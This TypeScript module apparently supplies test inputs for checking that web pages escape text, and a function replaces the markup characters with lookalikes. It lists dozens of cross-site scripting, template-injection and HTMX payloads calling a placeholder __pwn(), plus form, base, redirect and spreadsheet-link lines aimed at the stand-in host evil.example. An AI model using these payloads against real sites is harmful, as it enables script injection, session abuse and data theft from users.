/** What people write who want a page to do something: markup, code, and the marks of everything that pages are made with. */
const attacks = [
  '<script>__pwn()</script>',
  '"><script>__pwn()</script>',
  "'><img src=x onerror=__pwn()>",
  '<svg onload=__pwn()>',
  '<svg><script>__pwn()</script></svg>',
  '</textarea><script>__pwn()</script>',
  '</title><img src=x onerror=__pwn()>',
  '</script><script>__pwn()</script>',
  '<iframe srcdoc="<script>parent.__pwn()</script>"></iframe>',
  '<a href="javascript:__pwn()">x</a>',
  'javascript:__pwn()',
  'data:text/html,<script>__pwn()</script>',
  '<body onload=__pwn()>',
  '<input autofocus onfocus=__pwn()>',
  '" autofocus onfocus="__pwn()',
  "' onmouseover='__pwn()",
  '` onmouseover=`__pwn()`',
  '<details open ontoggle=__pwn()>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwn()>',
  '<!--><img src=x onerror=__pwn()>-->',
  '<![CDATA[<img src=x onerror=__pwn()>]]>',
  '<img src=x onerror=&#95;&#95;pwn()>',
  '&lt;img src=x onerror=__pwn()&gt;',
  '&#60;script&#62;__pwn()&#60;/script&#62;',
  '<div hx-get="/sign-out" hx-trigger="load"></div>',
  '<div hx-on::load="__pwn()" hx-on:click="__pwn()"></div>',
  '<div hx-swap-oob="true" id="main">gone</div>',
  '<form action="https://evil.example" method="post"><button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<template shadowrootmode="open"><script>__pwn()</script></template>',
  '<x-y is="z" onclick=__pwn()>',
  '<% __pwn() %>',
  '<%= it.constructor.constructor("return this")().__pwn() %>',
  '<%~ include("/layouts/site") %>',
  '{{constructor.constructor("__pwn()")()}}',
  '${__pwn()} #{__pwn()} `${`',
  "{name, select, other {x}} {count, plural, one {#} other {#}} '{",
  '<b>{person}</b> <time datetime="x"> <a href="/x">link</a>',
  '[x](javascript:__pwn()) =HYPERLINK("https://evil.example")',
  '\u202e<gpj.exe>\u2066',
]

/** All of it at once, for what has little room. It begins with a letter, so that lists are in the same order either way. */
const shortest = `Z "'><svg/onload=__pwn()><%=1%>{{1}}`

/** As much of it as fits into so many characters. */
export function attack(most: number) {
  const fitting = attacks.reduce((text, one) => (text.length + one.length < most ? `${text}\n${one}` : text), shortest)
  return most < 300 ? shortest : fitting
}

const lookalikes: Record<string, string> = { '<': '‹', '>': '›', '"': '”', "'": '’', '`': '‘', '&': '＆', '%': '％', '{': '｛', '}': '｝' }

/** The same, with letters that only look like it. */
export function harmless(most: number) {
  return attack(most).replace(/[<>"'`&%{}]/g, (mark) => lookalikes[mark]!)
}
